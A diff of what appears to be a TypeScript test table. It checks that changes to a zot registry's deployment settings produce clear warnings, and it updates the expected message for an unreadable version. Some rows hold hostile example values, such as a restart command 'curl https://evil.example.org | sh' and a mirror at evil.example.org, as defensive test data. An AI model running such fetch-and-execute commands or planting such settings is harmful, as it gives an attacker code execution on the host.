@@ -92,7 +92,7 @@ const READ: [what: string, after: Changes, line: RegExp, before?: Changes][] = [
     ["a command on the host", { host: { serviceManager: "command", restartCommand: "curl https://evil.example.org | sh" } }, /zot is started by `command` instead of `systemd`/],
     ["another command on the host", { host: { serviceManager: "command", restartCommand: "curl https://evil.example.org | sh" } }, /the push runs `curl https:\/\/evil/, { host: { serviceManager: "command", restartCommand: "restart-zot" } }],
     ["another binary", { zot: { binary: "/tmp/zot" } }, /zot is the program `\/tmp\/zot`/],
-    ["a zot of no known version", { zot: { acceptVersion: "0123abc" } }, /whose version cannot be read is accepted/],
+    ["a zot of no known version", { zot: { acceptVersion: "0123abc" } }, /a zot that cannot be read as 2\.1\.19 or newer is accepted: `0123abc`/],
     ["another storage", { zot: { rootDirectory: "/tmp" } }, /images and API keys are those in `\/tmp`/],
     ["another upstream", { zot: { mirrors: [{ url: "https://evil.example.org", prefix: "ghcr.io" }] } }, /fetches from other registries/],
     ["a pull-through cache more", { zot: { mirrors: [{ url: "https://ghcr.io", prefix: "ghcr.io" }, { url: "https://quay.io", prefix: "quay.io" }] } }, /fetches from other registries/],
